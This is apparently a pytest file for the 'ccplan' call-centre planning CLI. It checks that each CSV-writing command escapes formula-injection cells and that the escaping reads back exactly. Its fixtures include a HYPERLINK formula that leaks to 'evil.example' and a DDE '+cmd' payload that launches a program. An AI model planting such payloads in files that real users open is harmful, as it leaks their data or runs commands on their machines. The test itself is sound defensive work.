"""Formula injection: no CSV that ccplan writes holds a cell a spreadsheet would run.

OWASP's rule ("CSV injection"): a text cell that begins with = + - @, a tab or a carriage
return is read as a formula by Excel, LibreOffice and Google Sheets, so it is written with a
leading apostrophe; numbers stay numbers (a negative number too). Every command that writes
CSV (run, compare, forecast, forecast backtest, simulate, schedule, cost) runs here with
channels, scenarios, variants, shift templates and breaks named like formulas, and every cell
of every CSV file it writes is read back with the csv module: a cell that begins with a formula
character must parse as a number. The names must show up (escaped), so the check cannot pass
on files that simply left them out, and ccplan reads its own files back to the names as given.
"""

from __future__ import annotations

import csv
import io
import math
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from typer.testing import CliRunner

import scenarios
from scenarios.cli import app
from scenarios.files.output import csv_unescape
from tests.scenarios.cli_histories import counts

runner = CliRunner()

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
HYPERLINK = '=HYPERLINK("http://evil.example/?leak","click")'
CMD = "+cmd|' /C calc'!A0"
SUM = "@SUM(1+1)"
MINUS = "-1+1"
HOSTILE = (HYPERLINK, CMD, SUM, MINUS)


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def read_cells(path: Path) -> list[list[str]]:
    """Every row of the CSV file (header first), as the csv module reads it."""
    with path.open(newline="", encoding="utf-8") as handle:
        return list(csv.reader(handle))


def formula_cells(path: Path) -> list[tuple[int, int, str]]:
    """(row, column, text) of the cells a spreadsheet would run as formulas."""
    return [(r, c, cell) for r, row in enumerate(read_cells(path)) for c, cell in enumerate(row)
            if cell.startswith(FORMULA_START) and not _is_number(cell)]


def all_cells(paths: list[Path]) -> set[str]:
    return {cell for path in paths for row in read_cells(path) for cell in row}


def check_written(folder: Path, expected: set[str]) -> list[Path]:
    """Every CSV under ``folder`` is formula-free; returns them (``expected`` names, all there)."""
    paths = sorted(folder.rglob("*.csv"))
    found = {p.name for p in paths}
    assert expected <= found, f"missing {expected - found} in {folder}"
    for path in paths:
        assert not formula_cells(path), (path.name, formula_cells(path)[:3])
    return paths


def run_ok(args: list[str]) -> None:
    result = runner.invoke(app, [str(a) for a in args])
    assert result.exit_code == 0, (args[0], result.output)


# ---------------------------------------------------------------------------------------------
# Every command, with names made to be formulas
# ---------------------------------------------------------------------------------------------


def hostile_scenario(seed: int = 3) -> str:
    """A 1-day, 1-hour-interval file whose name, channels, variant and template are formulas."""
    channels = "\n".join(
        f"  {name!r}: {{volume: {{daily: {24 * (i + 1)}, profile: flat}}, aht: 4m, "
        "target: 80% in 20s}" for i, name in enumerate((CMD, SUM, MINUS)))
    return (f"name: {HYPERLINK!r}\n"
            "interval: 1h\n"
            "horizon: {start: 2026-03-02, days: 1}\n"
            "hours: 24x7\n"
            f"seed: {seed}\n"
            "channels:\n" + channels + "\n"
            "pay: {hourly_rates: {agent: 20}}\n"
            "shifts:\n"
            f"  templates: [{{name: {HYPERLINK!r}, length: 8h, "
            "start: {earliest: '00:00', latest: '23:00', step: 1h}}]\n"
            "  rules: {coverage: soft, time_limit_s: 20}\n"
            f"variants:\n  {MINUS!r}: {{volume_scale: 1.1}}\n")


@pytest.mark.slow
def test_run_and_compare_write_no_formula(tmp_path):
    path = tmp_path / "hostile.yaml"
    path.write_text(hostile_scenario(), encoding="utf-8")
    run_ok(["run", path, "--out", tmp_path / "run", "--workers", "1"])
    paths = check_written(tmp_path / "run", {"intervals.csv", "channels.csv", "totals.csv",
                                             "cost_breakdown.csv", "shifts.csv"})
    cells = all_cells(paths)
    for name in (HYPERLINK, CMD, SUM, MINUS, f"{HYPERLINK} / {MINUS}"):
        assert "'" + name in cells, name
    # The Parquet twins keep the names as they are (typed, never read as formulas).
    channels = pd.read_parquet(tmp_path / "run" / "channels.parquet")
    assert set(channels["channel"]) == {CMD, SUM, MINUS}
    assert set(channels["scenario"]) == {HYPERLINK, f"{HYPERLINK} / {MINUS}"}

    run_ok(["compare", path, "--out", tmp_path / "compare", "--workers", "1"])
    paths = check_written(tmp_path / "compare", {"comparison.csv"})
    assert "'" + HYPERLINK in all_cells(paths)


def hostile_history(tmp_path: Path) -> Path:
    table = counts(days=35, channels=(CMD, SUM))
    path = tmp_path / "history.csv"
    table.to_csv(path, index=False)   # as a user's export could hold them
    return path


def test_forecast_and_backtest_write_no_formula(tmp_path):
    history = hostile_history(tmp_path)
    run_ok(["forecast", "--history", history, "--horizon", 48, "--method", "seasonal_naive",
            "--out", tmp_path / "fc" / "forecast.csv", "--no-chart"])
    paths = check_written(tmp_path / "fc", {"forecast.csv"})
    assert {"'" + CMD, "'" + SUM} <= all_cells(paths)

    run_ok(["forecast", "backtest", "--history", history, "--horizon", 48, "--origins", 2,
            "--methods", "seasonal_naive", "--out", tmp_path / "bt"])
    paths = check_written(tmp_path / "bt", {"backtest.csv", "scores_by_channel.csv",
                                            "scores_by_horizon_day.csv"})
    assert {"'" + CMD, "'" + SUM} <= all_cells(paths)


def test_simulate_writes_no_formula(tmp_path):
    starts = pd.date_range("2026-01-05 08:00", periods=4, freq="h")
    volumes = pd.concat([pd.DataFrame({"channel": name, "interval_start": starts,
                                       "offered": 20.0, "aht_s": 180.0, "agents": 3})
                         for name in (CMD, MINUS)], ignore_index=True)
    path = tmp_path / "volumes.csv"
    volumes.to_csv(path, index=False)
    run_ok(["simulate", "--volumes", path, "--interval-s", 3600, "--patience-s", 120,
            "--replications", 2, "--out", tmp_path / "sim"])
    paths = check_written(tmp_path / "sim", {"sim_intervals.csv", "summary.csv"})
    assert {"'" + CMD, "'" + MINUS} <= all_cells(paths)


RULES = f"""\
templates:
  - name: {HYPERLINK!r}
    length: 6h
    start: {{earliest: "08:00", latest: "10:00", step: 1h}}
    breaks: [{{name: {SUM!r}, duration: 1h, window: [2h, 3h]}}]
rules: {{time_limit_s: 20, blend: false}}
pay: {{hourly_rates: {{agent: 20}}}}
"""


def test_schedule_and_cost_write_no_formula_and_read_their_own_files_back(tmp_path):
    starts = pd.date_range("2026-01-05 08:00", periods=8, freq="h")
    req = tmp_path / "req.csv"
    pd.concat([pd.DataFrame({"channel": name, "interval_start": starts,
                             "agents_required": [1, 2, 2, 1, 1, 2, 1, 1]})
               for name in (CMD, MINUS)]).to_csv(req, index=False)
    rules = tmp_path / "rules.yaml"
    rules.write_text(RULES, encoding="utf-8")
    run_ok(["schedule", req, "--rules", rules, "--interval-s", 3600,
            "--out", tmp_path / "sched"])
    paths = check_written(tmp_path / "sched", {"shifts.csv", "breaks.csv", "tours.csv",
                                               "coverage.csv", "costs.csv"})
    assert {"'" + CMD, "'" + HYPERLINK, "'" + SUM} <= all_cells(paths)

    # ccplan cost reads the escaped schedule folder back: the channel is CMD again and
    # matches the forecast's (written by ccplan forecast's writer, escaped too).
    forecast = tmp_path / "fc.csv"
    forecast.write_text(scenarios.files.output.safe_csv_text(pd.concat([pd.DataFrame(
        {"channel": name, "interval_start": starts, "offered": offered, "aht_s": 300.0})
        for name, offered in ((CMD, 10.0), (MINUS, 5.0))])), encoding="utf-8")
    run_ok(["cost", tmp_path / "sched", "--forecast", forecast, "--out", tmp_path / "cost"])
    paths = check_written(tmp_path / "cost", {
        "cost_by_interval.csv", "cost_by_channel.csv", "cost_by_day.csv", "cost_by_week.csv",
        "cost_annual.csv", "cost_breakdown.csv"})
    by_channel = pd.read_csv(tmp_path / "cost" / "cost_by_channel.csv")
    assert dict(zip(by_channel["channel"], by_channel["offered"], strict=True)) == {
        "'" + CMD: 80.0, "'" + MINUS: 40.0}   # every forecast row found its channel


def test_erlang_reads_a_file_ccplan_wrote_back_to_the_names(tmp_path):
    path = tmp_path / "volumes.csv"
    path.write_text(scenarios.files.output.safe_csv_text(pd.DataFrame(
        {"channel": [CMD, "voice"], "offered": [10.0, 20.0], "aht_s": 180.0})), encoding="utf-8")
    result = runner.invoke(app, ["erlang", "--csv", str(path), "--target", "80/20", "--json"])
    assert result.exit_code == 0, result.output
    assert CMD in result.stdout and "'" + CMD not in result.stdout


# ---------------------------------------------------------------------------------------------
# The writer itself
# ---------------------------------------------------------------------------------------------

FORMULAS = ["=1+2", "+1", "-1", "@SUM(A1)", "\tx", "\rx", HYPERLINK, "'=x", "''+y"]
PLAIN = ["voice", "a=b", "1-2", " =1", "", "ünïcode €", "'quoted", "'"]


def parsed(table: pd.DataFrame) -> list[list[str]]:
    return list(csv.reader(io.StringIO(scenarios.files.output.safe_csv_text(table), newline="")))


def test_formula_text_gets_an_apostrophe_and_numbers_stay_numbers():
    table = pd.DataFrame({
        "text": FORMULAS + PLAIN,
        "number": np.arange(len(FORMULAS) + len(PLAIN), dtype=float) - 3.5,
        "count": np.arange(len(FORMULAS) + len(PLAIN)) - 5,
    })
    before = table.copy(deep=True)
    rows = parsed(table)
    pd.testing.assert_frame_equal(table, before)     # the input is not changed
    assert rows[0] == ["text", "number", "count"]
    assert [r[0] for r in rows[1:]] == ["'" + v for v in FORMULAS] + PLAIN
    # Negative numbers are written as numbers (no apostrophe): -3.5, -2.5, ...
    assert [float(r[1]) for r in rows[1:]] == table["number"].tolist()
    assert [int(r[2]) for r in rows[1:]] == table["count"].tolist()
    assert rows[1][1] == "-3.5" and rows[1][2] == "-5"


def test_mixed_object_columns_keep_their_numbers():
    table = pd.DataFrame({"mixed": [None, math.nan, -2.0, "-x", "ok", -3, "=y", "@", "+", ""]})
    assert [r[0] for r in parsed(table)[1:]] == ["", "", "-2.0", "'-x", "ok", "-3", "'=y",
                                                 "'@", "'+", ""]


@pytest.mark.parametrize("dtype", ["string", "category"])
def test_string_and_categorical_columns_are_escaped(dtype):
    table = pd.DataFrame({"name": pd.Series(["=cmd", "fine", None], dtype=dtype)})
    assert [r[0] for r in parsed(table)[1:]] == ["'=cmd", "fine", ""]


def test_column_names_are_escaped_too():
    table = pd.DataFrame({"=x": [1], "ok": [2]})
    assert parsed(table)[0] == ["'=x", "ok"]


def test_line_breaks_inside_cells_keep_their_row():
    table = pd.DataFrame({"text": ["\rx", "a\rb", "c\nd"], "number": [1.0, 2.0, 3.0]})
    back = pd.read_csv(io.StringIO(scenarios.files.output.safe_csv_text(table), newline=""))
    assert back["number"].tolist() == [1.0, 2.0, 3.0]
    assert back["text"].tolist() == ["'\rx", "a\rb", "c\nd"]


def test_unescape_gives_back_exactly_what_was_written():
    values = FORMULAS + PLAIN
    rows = parsed(pd.DataFrame({"text": values}))
    back = csv_unescape(pd.Series([r[0] for r in rows[1:]]))
    assert back.tolist() == values
